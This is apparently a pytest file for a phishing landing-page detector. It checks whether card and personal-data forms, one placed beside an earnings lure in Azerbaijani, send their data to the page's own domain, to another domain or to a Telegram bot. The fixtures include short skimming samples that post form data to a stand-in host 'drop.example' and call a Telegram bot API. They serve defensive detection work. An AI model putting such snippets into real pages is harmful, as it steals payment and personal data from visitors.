"""What a page asks for and where it sends it: to another domain, to a bot, or to its own."""

from __future__ import annotations

import pytest

from detectors.landing_page import LandingPageSigns
from detectors.records import Bearing, Finding
from tests.detectors.subjects import by_claim, landing, subject

CARD = '<form{}><input name="card_number"><input name="cvv"></form>'
PERSON = '<form{}><input name="fin_kod"></form>'


def examine(html: str, text: str = "") -> dict[str, Finding]:
    return by_claim(list(LandingPageSigns().examine(subject(None, landing(html, text)))))


@pytest.mark.parametrize(("form", "claim"), [(CARD, "card_form"), (PERSON, "personal_data_form")])
@pytest.mark.parametrize(
    ("action", "script", "bearing"),
    [
        (' action="/take"', "", Bearing.INCONCLUSIVE),
        (' action="https://pay.offer.example/"', "", Bearing.INCONCLUSIVE),
        (' action="https://drop.example/"', "", Bearing.SUPPORTS),
        ("", "<script>$.post('https://drop.example/x', d)</script>", Bearing.SUPPORTS),
        ("", "<script>$.post('/x', d)</script>", Bearing.INCONCLUSIVE),
        (' action="/take"', "<script>$.post('https://drop.example/x', d)</script>", Bearing.INCONCLUSIVE),
    ],
)
def test_data_that_goes_to_another_domain(form: str, claim: str, action: str, script: str, bearing: Bearing) -> None:
    found = examine(form.format(action) + script)[claim]
    assert found.bearing is bearing
    assert ("drop[.]example" in found.observation) is (bearing is Bearing.SUPPORTS)


@pytest.mark.parametrize(("form", "claim"), [(CARD, "card_form"), (PERSON, "personal_data_form")])
@pytest.mark.parametrize(
    ("action", "where"),
    [
        (' action="/take?session=7"', " and sends it to hxxp://offer[.]example/take, on its own domain."),
        (' action="https://pay.offer.example/"', " and sends it to hxxps://pay[.]offer[.]example/, on its own domain."),
        (' action="https://drop.example/"', " and sends it to another domain, drop[.]example."),
        ("", "; no web address is named for it: a script decides, or it goes back to hxxp://offer[.]example/."),
        (' action="javascript:send()"', "; no web address is named for it: a script decides, or it goes back to"),
        (' action="http://@/x"', "; no web address is named for it: a script decides, or it goes back to"),
    ],
)
def test_where_a_form_sends_the_data_is_always_said(form: str, claim: str, action: str, where: str) -> None:
    assert f"){where}" in examine(form.format(action))[claim].observation


def test_fields_outside_a_form_are_sent_by_a_script() -> None:
    found = examine('<input name="card_number">')["card_form"]
    assert found.observation == "The page asks for card data (card_number); a script decides where it is sent."


def test_a_form_whose_data_go_to_a_bot() -> None:
    script = "<script>fetch('https://api.telegram.org/bot123456789:KEY/sendMessage')</script>"
    found = examine(CARD.format("") + script)["telegram_bot"]
    assert found.bearing is Bearing.SUPPORTS
    assert "123456789" in found.observation
    assert "KEY" not in found.observation
    assert "telegram_bot" not in examine(script)


def test_personal_data_beside_a_lure() -> None:
    found = examine(PERSON.format(' action="/x"'), "SOCAR platforması: gündə 500 AZN qazanın. Qeydiyyatdan keçin!")
    assert found["personal_data_form"].bearing is Bearing.SUPPORTS
